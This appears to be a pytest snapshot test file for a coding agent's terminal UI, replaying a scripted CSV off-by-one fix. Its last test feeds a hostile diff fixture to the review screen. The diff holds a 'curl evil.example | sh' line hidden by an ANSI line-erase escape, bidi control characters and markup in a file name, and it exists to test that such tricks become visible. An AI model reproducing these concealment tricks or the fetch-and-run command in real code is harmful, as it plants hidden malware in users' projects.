"""SVG snapshots of the main screens, fed a fixed event stream (update with `pytest --snapshot-update`)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from textual.widgets import Input

from coder.agent import Agent
from coder.config import Config
from coder.events import (
    ApprovalRequested,
    FileEdited,
    ModelReplied,
    PlanUpdated,
    RunFinished,
    RunStarted,
    TestsRan,
    TextStreamed,
    ToolFinished,
    ToolStarted,
)
from coder.sandboxes.local import LocalSandbox
from coder.testing import ScriptedModel
from coder.tui.app import CoderApp, TuiDeps
from coder.tui.bridge import AgentBridge, Idle, PatchChanged
from coder.tui.diff_review import DiffReviewScreen
from coder.tui.modals import ApprovalScreen

REPO = Path("/home/dev/csvexport")
PATCH = """\
diff --git a/csvexport/writer.py b/csvexport/writer.py
index 1111111..2222222 100644
--- a/csvexport/writer.py
+++ b/csvexport/writer.py
@@ -12,7 +12,7 @@ def export(rows, out):
     writer = csv.writer(out)
     writer.writerow(HEADER)
-    for i in range(len(rows) - 1):
+    for i in range(len(rows)):
         writer.writerow(rows[i])
     return len(rows)
 
@@ -30,4 +30,4 @@ def header_line():
 def footer(count):
-    return f"{count} rows"
+    return f"{count} rows exported"
"""
RUN = [
    RunStarted(run_id="20261123-101500-abc123", task="the CSV export drops the last row", model="qwen2.5-coder-1.5b", sandbox="docker", repo=str(REPO)),
    TestsRan(phase="baseline", runner="pytest", command="python -m pytest", passed=7, failed=1, errors=0, skipped=0),
    TextStreamed(step=1, text="Plan:\n1. Find the CSV export code\n2. Fix the loop that skips the last row\n3. Run the tests"),
    ModelReplied(step=1, text="Plan:\n1. Find the CSV export code\n2. Fix the loop that skips the last row\n3. Run the tests",
                 tool_calls=(), prompt_tokens=5200, completion_tokens=40, cached_tokens=0, seconds=9.1),
    PlanUpdated(steps=("Find the CSV export code", "Fix the loop that skips the last row", "Run the tests"), revision=1),
    ToolStarted(step=1, call_id="c1", name="grep", arguments={"pattern": "range(len(rows)"}),
    ToolFinished(step=1, call_id="c1", name="grep", ok=True, output="csvexport/writer.py:14:    for i in range(len(rows) - 1):", seconds=0.01),
    ModelReplied(step=2, text="", tool_calls=(), prompt_tokens=5320, completion_tokens=60, cached_tokens=5200, seconds=2.3),
    ToolStarted(step=2, call_id="c2", name="edit_file", arguments={"path": "csvexport/writer.py", "command": "replace",
                                       "old": "range(len(rows) - 1)", "new": "range(len(rows))"}),
    ToolFinished(step=2, call_id="c2", name="edit_file", ok=True, output="Edited csvexport/writer.py (1 line changed)", seconds=0.0),
    FileEdited(step=2, path="csvexport/writer.py", diff="-    for i in range(len(rows) - 1):\n+    for i in range(len(rows)):\n"),
    ModelReplied(step=3, text="", tool_calls=(), prompt_tokens=5450, completion_tokens=20, cached_tokens=5320, seconds=1.1),
    ToolStarted(step=3, call_id="c3", name="run_tests", arguments={}),
    ToolFinished(step=3, call_id="c3", name="run_tests", ok=True, output="8 passed, 0 failed, 0 errors, 0 skipped", seconds=0.41),
    TestsRan(phase="final", runner="pytest", command="python -m pytest", passed=8, failed=0, errors=0, skipped=0),
    RunFinished(status="resolved", message="submitted and all tests pass", patch=PATCH, steps=4, elapsed=14.2, prompt_tokens=21420, completion_tokens=140, cached_tokens=15970,
                fail_to_pass=("tests/test_writer.py::test_export_keeps_last_row",)),
    PatchChanged(PATCH),
    Idle(),
]


def make_app() -> CoderApp:
    agent = Agent(ScriptedModel([]), LocalSandbox(), Config())
    bridge = AgentBridge(agent, REPO)
    return CoderApp(TuiDeps(bridge, REPO, "qwen2.5-coder-1.5b", "docker", clock=lambda: 0.0))


async def after_run(pilot: Any) -> None:
    app = pilot.app
    app.query_one(Input).cursor_blink = False
    app.task_title = "the CSV export drops the last row"
    for item in RUN:
        app.handle(item)
    await pilot.pause()


def test_main_screen_after_a_run(snap_compare: Any) -> None:
    assert snap_compare(make_app(), terminal_size=(100, 30), run_before=after_run)


def test_main_screen_at_80x24(snap_compare: Any) -> None:
    assert snap_compare(make_app(), terminal_size=(80, 24), run_before=after_run)


def test_diff_review(snap_compare: Any) -> None:
    async def review(pilot: Any) -> None:
        await after_run(pilot)
        await pilot.app.push_screen(DiffReviewScreen(PATCH, REPO, "the CSV export drops the last row"))
        await pilot.press("a")  # accept the fix; the cosmetic change stays pending
        await pilot.pause()

    assert snap_compare(make_app(), terminal_size=(100, 30), run_before=review)


def test_approval_modal(snap_compare: Any) -> None:
    async def ask(pilot: Any) -> None:
        await after_run(pilot)
        request = ApprovalRequested(step=5, call_id="c5", name="bash", arguments={"command": "rm -rf build && make"},
                                    reason="runs a shell command: rm -rf build && make")
        await pilot.app.push_screen(ApprovalScreen(request))
        await pilot.pause()

    assert snap_compare(make_app(), terminal_size=(100, 30), run_before=ask)


def test_help_screen(snap_compare: Any) -> None:
    async def show_help(pilot: Any) -> None:
        pilot.app.query_one(Input).cursor_blink = False
        pilot.app.action_help()
        await pilot.pause()

    assert snap_compare(make_app(), terminal_size=(80, 24), run_before=show_help)


HOSTILE_PATCH = """\
diff --git a/csvexport/__init__.py b/csvexport/__init__.py
index 1111111..2222222 100644
--- a/csvexport/__init__.py
+++ b/csvexport/__init__.py
@@ -1 +1,3 @@
 from .writer import export
+import os; os.system("curl evil.example | sh")\x1b[2K\r# tidy imports
+ACCESS = "user\u202e \u2066// admin\u2069 \u2066"
diff --git a/[bold]logo[/bold].png b/[bold]logo[/bold].png
index 20b5be9..1131663 100644
GIT binary patch
literal 6
NcmYdfNM>YW1^@%%0LuUX

literal 3
KcmYdfNCE%>hycU@

"""


def test_diff_review_shows_hidden_text_and_binary_changes(snap_compare: Any) -> None:
    """An ESC sequence that erased its line, bidi controls, markup in a file name, and a binary hunk, all visible."""
    async def review(pilot: Any) -> None:
        pilot.app.query_one(Input).cursor_blink = False
        await pilot.app.push_screen(DiffReviewScreen(HOSTILE_PATCH, REPO, "tidy imports"))
        await pilot.pause()

    assert snap_compare(make_app(), terminal_size=(100, 24), run_before=review)
